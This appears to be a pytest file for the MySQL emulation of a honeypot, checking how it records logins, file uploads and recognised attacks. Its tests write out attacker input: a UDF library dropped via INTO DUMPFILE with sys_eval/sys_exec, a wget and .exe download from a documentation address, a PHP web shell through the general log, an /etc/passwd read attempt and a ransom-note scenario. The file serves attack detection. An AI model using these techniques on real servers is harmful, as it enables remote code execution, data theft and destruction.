"""MySQL: logins old and new, the ways in which a library becomes a file, functions out of it, and what falls out."""

from __future__ import annotations

import base64
import hashlib

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.serialization import load_pem_public_key

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols._database import WAITING_BYTES_MAX
from eudaemon.protocols._remembered import ENTRIES_MAX
from eudaemon.protocols._sql.expressions import DEPTH_MAX
from eudaemon.protocols._sql.session import FUNCTIONS_MAX
from eudaemon.protocols._sql.tables import ROWS_MAX, TABLES_MAX
from eudaemon.protocols._sql.tokens import TOKENS_MAX
from eudaemon.protocols.mysql import MySql
from eudaemon.protocols.mysql.dialogue import STATEMENTS_MAX
from eudaemon.protocols.mysql.packets import PACKET_BYTES_MAX, packets
from eudaemon.protocols.mysql.secrets import caching_proof
from eudaemon.protocols.mysql.server import server_of
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from payload.servers import SIZES, content
from protocols.mysql_client import CAPABILITIES, Client, command, login, payloads, query, rows, salt_of

LIBRARY = b"/usr/lib/mysql/plugin/x.so"


def host_of(series: str) -> Host:
    hosts = (Host.from_seed(Seed(b"%d" % number)) for number in range(99))
    return next(host for host in hosts if server_of(host).version.startswith(series))


FIVE, EIGHT = host_of("5.7"), host_of("8.0")


def talk(host: Host = FIVE, bytes_max: int = 24 << 20, memory: Memory | None = None) -> Table:
    return Table(MySql(visit(host=host, port=3306, purse=Purse(bytes_max), memory=memory))).open()


def client(host: Host = FIVE, bytes_max: int = 24 << 20) -> Client:
    return Client(talk(host, bytes_max))


def exploits(table: Table) -> list[tuple[str, str]]:
    return [(fact.name, fact.command) for fact in table.facts if isinstance(fact, ExploitRecognised)]


def logins(table: Table) -> list[LoginTried]:
    return [fact for fact in table.facts if isinstance(fact, LoginTried)]


def test_a_login_is_told_by_its_digest() -> None:
    for password, accepted in ((b"root", True), (b"", True), (b"123456", True)):
        table = talk()
        answer = table.say(login(table.sent, password=password))
        assert (payloads(answer)[0][:1] == b"\0") is accepted
        assert logins(table) == [LoginTried("root", password.decode(), accepted=accepted)]
    table = talk()
    answer = table.say(login(table.sent, password=b"no word of the list"))
    assert b"Access denied for user 'root'@'198.51.100.7' (using password: YES)" in answer
    (tried,) = logins(table)
    assert tried.password.startswith(f"$mysqlna${salt_of(table.sent).hex()}*")
    assert table.over
    table = talk()
    assert b"Access denied for user 'joe'" in table.say(login(table.sent, user=b"joe"))


def test_a_client_of_before_4_1_is_told_so() -> None:
    table = talk()
    answer = table.say(packets([b"\x05\x00\x00\x00\x00root\0ABCDEFGH\0"], 1))
    assert payloads(answer)[0] == b"\xff\xe3\x04Client does not support authentication protocol requested by server; " \
                                  b"consider upgrading MySQL client"  # fmt: skip
    assert logins(table) == [LoginTried("root", "(old digest) ABCDEFGH", accepted=False)]
    assert table.over


def test_the_eighth_has_an_unknown_password_sent_to_it_enciphered() -> None:
    def respond(table: Table, password: bytes) -> bytes:
        proof = caching_proof(password, salt_of(table.sent))
        body = CAPABILITIES.to_bytes(4, "little") + bytes(4) + b"\xff" + bytes(23) + b"root\0"
        return table.say(packets([body + bytes((len(proof),)) + proof + b"caching_sha2_password\0"], 1))

    table = talk(EIGHT)
    assert table.sent.endswith(b"\0caching_sha2_password\0")
    assert payloads(respond(table, b"123456")) == [b"\x01\x03", b"\0\0\0\x02\0\0\0"], "from the list: as from a cache"
    for password, split in ((b"correct horse 12", 0), (b"correct horse 12", 1)):
        table = talk(EIGHT)
        assert payloads(respond(table, password)) == [b"\x01\x04"]
        pem = payloads(table.say(packets([b"\x02"], 3), split))[0]
        key = load_pem_public_key(pem[1:])
        assert isinstance(key, rsa.RSAPublicKey)
        salt = salt_of(table.sent)
        masked = bytes(a ^ b for a, b in zip(password + b"\0", salt, strict=False))
        sealed = key.encrypt(masked, padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None))
        table.say(packets([sealed], 5), split)
        assert [fact.password for fact in logins(table)] == [password.decode()]
    table = talk(EIGHT)
    respond(table, b"correct horse 12")
    table.say(packets([bytes(128)], 3))
    assert logins(table) == [LoginTried("root", None, accepted=False)]


def test_what_scanners_and_worms_ask_first() -> None:
    c = client()
    version = server_of(FIVE).version.encode()
    assert c.rows(b"select @@version, @@version_compile_os, @@GLOBAL.plugin_dir, user(), database()") == [
        [version, b"Linux", b"/usr/lib/mysql/plugin/", b"root@198.51.100.7", None]]  # fmt: skip
    databases = [row[0] for row in c.rows(b"SHOW DATABASES;")]
    assert {b"information_schema", b"mysql", b"performance_schema", b"sys"} < set(databases)
    assert c.rows(b"show variables like '%plugin%'") == [[b"plugin_dir", b"/usr/lib/mysql/plugin/"]]
    assert c.rows(b"SHOW VARIABLES WHERE Variable_name IN ('port', 'basedir')") == [
        [b"basedir", b"/usr/"],
        [b"port", b"3306"],
    ]
    assert c.rows(b"select user from mysql.user where host='%'") == [[b"root"]]
    assert c.rows(b"SELECT schema_name FROM information_schema.schemata WHERE schema_name='mysql'") == [[b"mysql"]]
    assert payloads(c.do(b"/*!40101 SET NAMES utf8 */; select 1 # the end"))[0][:1] == b"\0"
    assert c.rows(b"select 1 as a from dual where 2 > 1 and not 1 = 2 or 'a' in ('b')") == [[b"1"]]
    assert c.error(b"selec 1").startswith(b"You have an error in your SQL syntax")
    assert c.error(b"select nosuch from mysql.user") == b"Unknown column 'nosuch' in 'field list'"
    assert c.error(b"select * from nosuch.t") == b"Table 'nosuch.t' doesn't exist"
    assert c.error(b"select * from t") == b"No database selected"
    assert c.error(b"load data local infile '/etc/passwd' into table t").startswith(b"The used command is not allowed")
    assert payloads(c.table.say(command(b"\x0e")))[0][:1] == b"\0"
    assert payloads(c.table.say(command(b"\x01"))) == []
    assert c.table.over


def test_what_it_says_is_drawn_and_stays() -> None:
    servers = [server_of(Host.from_seed(Seed(b"%d" % number))) for number in range(24)]
    assert len({server.version for server in servers}) > 5
    shown = [client(Host.from_seed(Seed(b"%d" % number))).rows(b"show databases") for number in (1, 1, 2)]
    assert shown[0] == shown[1] != shown[2]
    c = client()
    names = [name or b"" for (name,) in c.rows(b"show databases")]
    database = next(name for name in names if name != b"mysql" and c.rows(b"show tables from " + name))
    tables = c.rows(b"show tables from " + database)
    (count,) = c.rows(b"select count(*) from %s.%s" % (database, tables[0][0]))[0]
    assert int(count or 0) >= 12
    assert len(c.rows(b"select * from %s.%s limit 2, 3" % (database, tables[0][0]))) == 3


@pytest.mark.parametrize("size", SIZES)
def test_a_library_arrives_byte_for_byte_in_hexadecimal(size: int) -> None:
    c, data = client(), content(size)
    answer = c.do(b"SELECT %s INTO DUMPFILE '%s'" % (b"0x" + data.hex().encode(), LIBRARY))
    assert payloads(answer)[0][:1] == b"\0"
    (kept,) = c.table.kept
    assert (kept.data, kept.origin, kept.name) == (data, "upload", LIBRARY.decode())
    assert exploits(c.table) == [("mysql-udf", LIBRARY.decode())]
    assert c.rows(b"select length(load_file('%s'))" % LIBRARY) == [[b"%d" % size]]
    c.table.end()
    assert len(c.table.kept) == 1, "once"


@pytest.mark.parametrize("size", SIZES)
def test_a_library_arrives_byte_for_byte_piece_by_piece(size: int) -> None:
    """Into a table, and then more of it with concat."""
    c, data, step = client(), content(size), 512 * 1024 if size > 65_536 else 1000
    c.do(
        b"create database d; use d; create table yongger2(data LONGBLOB); set @a = concat('',0x%s)"
        % data[:step].hex().encode()
    )
    c.do(b"insert into yongger2 values (@a)")
    for at in range(step, size, step):
        c.do(b"update yongger2 set data = concat(data, 0x%s)" % data[at : at + step].hex().encode())
    c.do(b"select data from yongger2 into dumpfile '%s'" % LIBRARY)
    assert [keep.data for keep in c.table.kept] == [data]
    c.table.end()
    assert len(c.table.kept) == 1


def escaped(data: bytes) -> bytes:
    for mark, code in ((b"\\", b"\\\\"), (b"'", b"\\'"), (b"\0", b"\\0"), (b"\n", b"\\n"), (b"\x1a", b"\\Z")):
        data = data.replace(mark, code)
    return data


@pytest.mark.parametrize("size", SIZES)
def test_a_library_arrives_byte_for_byte_as_text(size: int) -> None:
    c, data = client(), content(size)
    c.do(b"select binary '%s' into dumpfile '%s'" % (escaped(data), LIBRARY))
    assert [keep.data for keep in c.table.kept] == [data]


def test_other_spellings_of_the_same_bytes() -> None:
    data = content(300)
    numbers = b",".join(b"%d" % byte for byte in data)
    spelled = (b"char(%s)" % numbers, b"unhex('%s')" % data.hex().encode(), b"x'%s'" % data.hex().encode(),
               b"concat(%s)" % b",".join(b"char(%d)" % byte for byte in data), b"_binary 0x" + data.hex().encode(),
               b"from_base64('%s')" % base64.b64encode(data), b"cast(0x%s as binary)" % data.hex().encode(),
               b"(select 0x%s)" % data.hex().encode(), b"if(1, 0x%s, null)" % data.hex().encode())  # fmt: skip
    for number, way in enumerate(spelled):
        c = client()
        c.do(b"select %s into dumpfile '/tmp/%d.so'" % (way, number))
        assert [keep.data for keep in c.table.kept] == [data], way
    c = client()
    c.do(b"use mysql; create table f(a blob); insert into f values (0x41), (0x42)")
    c.do(b"select a from f into outfile '/tmp/o' lines terminated by 'x'")
    assert [keep.data for keep in c.table.kept] == [b"A\nB\n"]
    assert c.error(b"select a from f into dumpfile '/tmp/p'") == b"Result consisted of more than one row"
    assert c.error(b"select 1 into dumpfile '/tmp/o'") == b"File '/tmp/o' already exists"
    assert c.error(b"select 1 into dumpfile '/no/such/x'") == b"Can't create/write to file '/no/such/x'"
    assert [keep.name for keep in c.table.kept] == ["/tmp/o", "/tmp/o", "/no/such/x"], "kept, though it found no place"


def test_functions_out_of_a_library() -> None:
    c = client()
    assert c.error(b"create function sys_eval returns string soname 'x.so'").startswith(
        b"Can't open shared library 'x.so'"
    )
    assert c.error(b"select sys_eval('id')") == b"FUNCTION sys_eval does not exist"
    c.do(b"select 0x7f454c46 into dumpfile '%s'" % LIBRARY)
    for name in (b"sys_eval", b"sys_exec", b"downloader"):
        assert payloads(c.do(b"create function %s returns string soname 'x.so'" % name))[0][:1] == b"\0"
    assert c.rows(b"select sys_eval('whoami; head -c4 %s | xxd -p')" % LIBRARY) == [[b"mysql\n7f454c46\n"]]
    assert c.rows(b"select sys_exec('touch /tmp/a')") == [[b"0"]]
    assert c.rows(b"select downloader('http://198.51.100.7/a.exe','c:/a.exe')") == [[b"0"]]
    assert [(wish.download.url, wish.download.tool) for wish in c.table.wishes] == [
        ("http://198.51.100.7/a.exe", "downloader")]  # fmt: skip
    assert CommandEntered("touch /tmp/a") in c.table.facts
    assert c.rows(b"select name, dl from mysql.func where name like 'sys\\_e%'") == [
        [b"sys_eval", b"x.so"], [b"sys_exec", b"x.so"]]  # fmt: skip
    assert payloads(c.do(b"drop function sys_exec"))[0][:1] == b"\0"
    assert c.error(b"select sys_exec('id')").startswith(b"FUNCTION")


def test_each_statement_may_come_in_a_connection_of_its_own() -> None:
    memory = Memory()
    for number in range(ENTRIES_MAX + 9):
        Client(talk(memory=memory)).do(b"select 0x7f45 into dumpfile '/tmp/%d.so'" % number)
    assert memory.recall("mysql", "198.51.100.7").count(b"file") == ENTRIES_MAX
    Client(talk(memory=memory)).do(b"create function sys_eval returns string soname '3.so'")
    c = Client(talk(memory=memory))
    assert c.error(b"select 1 into dumpfile '/tmp/3.so'") == b"File '/tmp/3.so' already exists"
    assert c.error(b"select sys_eval('id')").startswith(b"FUNCTION"), "one entry too many"
    memory = Memory()
    Client(talk(memory=memory)).do(b"select 0x7f45 into dumpfile '/tmp/3.so'")
    Client(talk(memory=memory)).do(b"create function sys_eval returns string soname '3.so'")
    c = Client(talk(memory=memory))
    assert c.rows(b"select sys_eval('whoami')") == [[b"mysql\n"]]
    c.do(b"drop function sys_eval")
    assert Client(talk(memory=memory)).error(b"select sys_eval('id')").startswith(b"FUNCTION")


def test_a_command_that_downloads_holds_up_what_follows() -> None:
    c = client()
    c.do(b"select 0x7f into dumpfile '%s'; create function sys_eval returns string soname 'x.so'" % LIBRARY)
    assert c.do(b"select concat('<', sys_eval('wget -qO- http://198.51.100.7/a'), '>'); select 2") == b""
    before = len(c.table.sent)
    c.table.say(query(b"select 3"))
    c.table.tell(HalfClosed(c.table.at_s))
    assert len(c.table.sent) == before
    c.table.answer("ok", b"hello")
    answer = c.table.sent[before:]
    assert (
        answer.index(b"<hello>")
        < answer.index(b"\x01" + b"2", answer.index(b"<hello>"))
        < answer.rindex(b"\x01" + b"3")
    )
    assert c.table.over


def test_time_passes_while_it_sleeps() -> None:
    c = client()
    assert c.do(b"select sleep(5)") == b""
    c.table.wait(4.9)
    before = len(c.table.sent)
    c.table.wait(0.2)
    assert rows(c.table.sent[before:]) == [[b"0"]]


def test_a_web_shell_through_the_general_log() -> None:
    c = client()
    c.do(b"set global general_log_file='/var/www/html/s.php'; set global general_log = on")
    c.do(b"select '<?php system($_GET[0]);?>'")
    assert exploits(c.table) == [("mysql-general-log", "/var/www/html/s.php")]
    assert [(keep.origin, keep.name) for keep in c.table.kept] == [("script", "/var/www/html/s.php")]


def test_what_stays_in_a_table_is_kept_at_the_end() -> None:
    c, data = client(), content(4096)
    c.do(
        b"create database d; use d; create table t(b blob); insert into t values (0x%s), ('short')"
        % data.hex().encode()
    )
    c.table.end()
    assert [(keep.data, keep.name) for keep in c.table.kept] == [(data, "t")]


def test_ransom() -> None:
    c = client()
    own = {b"information_schema", b"mysql", b"performance_schema", b"sys"}
    database = next(name for (name,) in c.rows(b"show databases") if name is not None and name not in own)
    c.do(b"drop database `%s`; create database README; create table README.note(t text)" % database)
    assert database not in {name for (name,) in c.rows(b"show databases")}
    c.do(b"insert into README.note values ('%s')" % (b"pay " * 200))
    assert c.rows(b"select left(t, 7) from README.note") == [[b"pay pay"]]
    c.table.end()
    assert [keep.data for keep in c.table.kept] == [b"pay " * 200]


def test_limits_of_text() -> None:
    c = client()
    assert c.rows(b"select " + b"(" * (DEPTH_MAX - 2) + b"1" + b")" * (DEPTH_MAX - 2)) == [[b"1"]]
    assert c.error(b"select " + b"(" * DEPTH_MAX + b"1" + b")" * DEPTH_MAX).startswith(b"memory exhausted")
    assert c.rows(b"select " + b"+".join([b"1"] * 5000)) == [[b"5000"]]
    assert c.error(b"select repeat('a', 16777217)").startswith(b"Result of")
    assert c.rows(b"select length(repeat('a', 16777216))") == [[b"16777216"]]
    assert c.error(b"select 9" + b"9" * 40).startswith(b"You have an error")
    assert not c.table.fault
    c.do(b"select " + b"1," * TOKENS_MAX)
    assert c.table.fault == f"more than {TOKENS_MAX} words in one statement"
    for past in (0, 1):
        c = client()
        c.do(b";".join([b"do 1"] * (STATEMENTS_MAX + past)))
        assert bool(c.table.fault) == bool(past)
    table = talk()
    table.say(b"\xff\xff\xff\1")
    assert not table.fault
    table = talk()
    Client(table)
    table.say(b"\xff\xff\xff\0" + bytes(0xFFFFFF) + (PACKET_BYTES_MAX - 0xFFFFFF + 1).to_bytes(3, "little") + b"\1")
    assert table.fault == f"packet over {PACKET_BYTES_MAX} bytes"


def test_limits_of_what_is_held() -> None:
    c = client()
    c.do(b"create database d; use d; create table t(a int)")
    c.do(b"insert into t values " + b",".join([b"(1)"] * ROWS_MAX))
    assert c.rows(b"select count(*) from mysql.user") == [[b"2"]]
    assert c.error(b"insert into t values (1)") == b"The table is full"
    c.do(b"delete from t limit 1")
    assert payloads(c.do(b"insert into t values (1)"))[0][:1] == b"\0"
    assert c.error(b"select count(*) from t").startswith(b"The SELECT would examine more than MAX_JOIN_SIZE rows")
    for number in range(TABLES_MAX - 2):
        assert payloads(c.do(b"create table t%d(a int)" % number))[0][:1] == b"\0", number
    assert c.error(b"create table one_more(a int)") == b"The table is full"
    c = client()
    c.do(b"select 1 into dumpfile '%s'" % LIBRARY)
    for number in range(FUNCTIONS_MAX + 1):
        c.do(b"create function f%d returns int soname 'x.so'" % number)
    assert len(c.rows(b"select * from mysql.func")) == FUNCTIONS_MAX
    c.do(b"select sys_x('sleep')")
    c.do(b"select sleep(9)")
    whole = query(b"select 1".ljust(WAITING_BYTES_MAX - 5))
    c.table.say(whole)
    assert not c.table.fault
    c.table.say(query(b"select 1"))
    assert c.table.fault == "too much while a command is carried out"
    c = client()
    c.table.say(command(b"\x0e") * (MySql.messages_max - 1))
    assert not c.table.fault
    c.table.say(command(b"\x0e"))
    assert c.table.fault == f"more than {MySql.messages_max} messages in one session"


def test_a_poor_purse() -> None:
    c = client(bytes_max=20_000)
    c.do(b"create database d; use d; create table t(a blob)")
    assert c.error(b"insert into t values (repeat('a', 20000))") == b"The table is full"
    assert payloads(c.do(b"insert into t values (repeat('a', 10000))"))[0][:1] == b"\0"
    assert c.error(b"update t set a = concat(a, a)") == b"The table is full"
    assert c.rows(b"select length(a) from t") == [[b"10000"]]
    c.do(b"drop table t")
    assert hashlib.md5(b"").hexdigest().encode() in (c.rows(b"select md5('')")[0][0] or b"")
    c.table.end()
    c.table.room.visit.purse.close()


def test_whose_conversation_it_is() -> None:
    greeting = talk().sent
    assert MySql.claim(login(greeting)) is Claim.YES
    assert MySql.claim(login(greeting)[:2]) is Claim.UNSURE
    assert MySql.claim(b"GET / HTTP/1.0\r\n") is Claim.NO
